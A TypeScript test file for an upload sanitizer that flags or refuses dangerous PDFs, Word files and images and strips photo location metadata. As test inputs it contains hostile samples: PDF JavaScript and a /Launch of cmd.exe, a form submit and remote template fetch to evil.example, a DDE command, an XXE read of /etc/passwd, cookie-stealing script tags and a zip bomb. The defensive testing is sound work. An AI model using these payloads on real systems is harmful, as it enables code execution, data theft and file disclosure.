import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { Refused } from "../kernel/errors.ts";
import { docxOf, GREY_PIXEL, pdfOf, photograph, PNG, relationship, zipOf } from "./file-samples.test-support.ts";
import { prepareUpload, type PreparedUpload } from "./index.ts";

const look = (bytes: Buffer, name: string): PreparedUpload | string => {
  try {
    return prepareUpload(bytes, name);
  } catch (error) {
    if (!(error instanceof Refused)) throw error;
    expect(error.refusals[0]!.sentence).toMatch(/^[A-ZÄÖÜ].*\.$/);
    return error.refusals[0]!.code;
  }
};
const hazardsOf = (bytes: Buffer): readonly string[] => (look(bytes, "a.pdf") as PreparedUpload).hazards;
const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";

describe("what is inside of a PDF", () => {
  test("a plain one may be shown", () => {
    expect(hazardsOf(pdfOf([CATALOG, "<< /Type /Pages /Kids [] /Count 0 >>"], ["<< /Type /Page >>"]))).toEqual([]);
    expect(hazardsOf(pdfOf(["<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"]))).toEqual([]);
  });
  test("scripts, attachments, actions and locks make it a download; also with escapes, and packed into a stream", () => {
    const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
    expect(hazardsOf(pdfOf([CATALOG, script]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /S /J#61vaScr#69pt /JS (x) >>"]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG], [script]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG], ["<< /S /Java#53cript >>"]))).toEqual(["script"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /Names << /EmbeddedFiles 5 0 R >> >>"]))).toEqual(["embedded"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /S /SubmitForm /F (https://evil.example) >>"]))).toEqual(["action"]);
    expect(hazardsOf(pdfOf([CATALOG, "<< /Encrypt 9 0 R >>"]))).toEqual(["encrypted"]);
  });
  test("objects behind a packing that is not looked into, or that unpack without end, make it a download", () => {
    const hidden = Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n"), Buffer.from([0x80, 0x0b, 0x60]), Buffer.from("\nendstream\nendobj\ntrailer\nstartxref\n0\n%%EOF")]);
    expect(hazardsOf(hidden)).toEqual(["unreadable"]);
    expect(hazardsOf(pdfOf([CATALOG], [" ".repeat(70_000_000)]))).toEqual(["unreadable"]);
    const script = deflateSync(Buffer.from("50 0 << /S /JavaScript >>"));
    const withHead = (head: string, end: string, body: Buffer = script): Buffer => Buffer.concat([Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${head} >>\nstream${end}`), body, Buffer.from("\nendstream\nendobj\ntrailer\nstartxref\n0\n%%EOF")]);
    for (const end of ["\n", "\r\n", "\r", " \n", ""]) expect(hazardsOf(withHead("/Type /ObjStm /Filter /FlateDecode", end)), JSON.stringify(end)).toEqual(["script"]);
    expect(hazardsOf(withHead("/Type 9 0 R /Filter [/ASCIIHexDecode /FlateDecode]", "\n", Buffer.from(script.toString("hex"))))).toEqual(["unreadable"]);
    expect(hazardsOf(withHead("/Type /Ob#6aStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", "\n"))).toEqual(["unreadable", "script"]);
    // a photograph within is no reason
    expect(hazardsOf(withHead("/Subtype /Image /Filter /DCTDecode", "\n", GREY_PIXEL))).toEqual([]);
  });
  test("what starts a program is refused, and so is a web page behind the first line of a PDF", () => {
    expect(look(pdfOf([CATALOG, "<< /S /Launch /F (cmd.exe) >>"]), "a.pdf")).toBe("file-starts-program");
    expect(look(pdfOf([CATALOG], ["<< /S /La#75nch >>"]), "a.pdf")).toBe("file-starts-program");
    expect(look(Buffer.from("%PDF-1.4\n<html><script>alert(document.cookie)</script>"), "a.pdf")).toBe("file-unreadable");
    expect(look(Buffer.concat([Buffer.from("%PDF-1.4\n<script>alert(1)</script>\n"), pdfOf([CATALOG])]), "a.pdf")).toBe("file-unreadable");
  });
});

describe("what is inside of a Word file", () => {
  test("a plain one, and one with a link to click, is taken", () => {
    expect(look(docxOf(["Hallo"]), "a.docx")).toMatchObject({ kind: "docx", hazards: [] });
    expect(look(docxOf(["Hallo"], { "word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org") }), "a.docx")).toMatchObject({ kind: "docx" });
  });
  test("what is fetched or run by opening it is refused", () => {
    for (const type of ["attachedTemplate", "oleObject", "image", "frame", "subDocument"])
      expect(look(docxOf(["x"], { "word/_rels/settings.xml.rels": relationship(type, "http://evil.example/t.dotm") }), "a.docx"), type).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], { "word/_rels/document.xml.rels": relationship("image", "\\\\evil\\share", "external") }), "a.docx")).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], {}, '<w:altChunk r:id="r1"/>'), "a.docx")).toBe("file-loads-from-outside");
    expect(look(docxOf(["x"], {}, "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), "a.docx")).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/extra.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }), "a.docx")).toBe("file-unreadable");
  });
  test("macros are refused, also under another name, and a bomb before it swells, whatever its directory says", () => {
    expect(look(docxOf(["x"], { "word/vbaProject.bin": "x" }), "a.docx")).toBe("file-has-macros");
    expect(look(docxOf(["x"], { "word/theme.xml": "x", "word/_rels/document.xml.rels": relationship("vbaProject", "theme.xml", "Internal") }), "a.docx")).toBe("file-runs-commands");
    expect(look(docxOf(["x"], { "word/VBAPROJECT.BIN": "x" }), "a.docm")).toBe("file-has-macros");
    const swells = { "[Content_Types].xml": "x", "word/document.xml": "x", "word/media/a.xml": Buffer.alloc(130_000_000) };
    expect(look(zipOf(swells), "a.docx")).toBe("file-unpacks-too-large");
    expect(look(zipOf(swells, true), "a.docx")).toBe("file-unpacks-too-large");
  });
});

describe("photographs", () => {
  test("place, comments and what hangs behind the end go; how the telephone was held stays", () => {
    const { bytes } = look(photograph(6), "seite.jpg") as PreparedUpload;
    const text = bytes.toString("latin1");
    for (const word of ["GPS", "Lindenau", "51.3167", "<script>", "behind the end"]) expect(text).not.toContain(word);
    expect(text).toContain("Exif\0\0MM");
    // tag 0x0112 (orientation) with the value 6
    expect(bytes.toString("hex")).toContain("0112000300000001000600");
    expect(bytes.subarray(-2).toString("hex")).toBe("ffd9");
    // done twice, nothing changes any more
    expect((look(bytes, "seite.jpg") as PreparedUpload).bytes.equals(bytes)).toBe(true);
  });
  test("a picture without any of it stays the same, byte by byte", () => {
    expect((look(GREY_PIXEL, "a.jpg") as PreparedUpload).bytes.equals(GREY_PIXEL)).toBe(true);
    expect((look(PNG, "a.png") as PreparedUpload).bytes.equals(PNG)).toBe(true);
  });
  test("texts of a PNG go", () => {
    const chunk = Buffer.concat([Buffer.from([0, 0, 0, 8]), Buffer.from("tEXtLindenau"), Buffer.alloc(4)]);
    const { bytes } = look(Buffer.concat([PNG.subarray(0, 33), chunk, PNG.subarray(33), Buffer.from("<svg onload=x>")]), "a.png") as PreparedUpload;
    expect(bytes.equals(PNG)).toBe(true);
  });
  test("a broken one is refused, and a HEIC that may tell the place says so", () => {
    expect(look(Buffer.concat([Buffer.from("ffd8ffe00004", "hex"), Buffer.alloc(60, 1)]), "a.jpg")).toBe("file-unreadable");
    const heic = Buffer.concat([Buffer.from("00000018", "hex"), Buffer.from("ftypheic\0\0\0\0mif1heicExif GPS")]);
    expect(look(heic, "a.heic")).toMatchObject({ kind: "heic", hazards: ["place"] });
  });
  test("web pages and drawings with scripts are refused under whatever name", () => {
    for (const name of ["a.svg", "a.png", "a.html", "a.pdf", "a.jpg"]) {
      expect(look(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), name), name).toBe("file-is-markup");
      expect(look(Buffer.from("<html><script>alert(1)</script>"), name), name).toBe("file-is-markup");
    }
  });
});
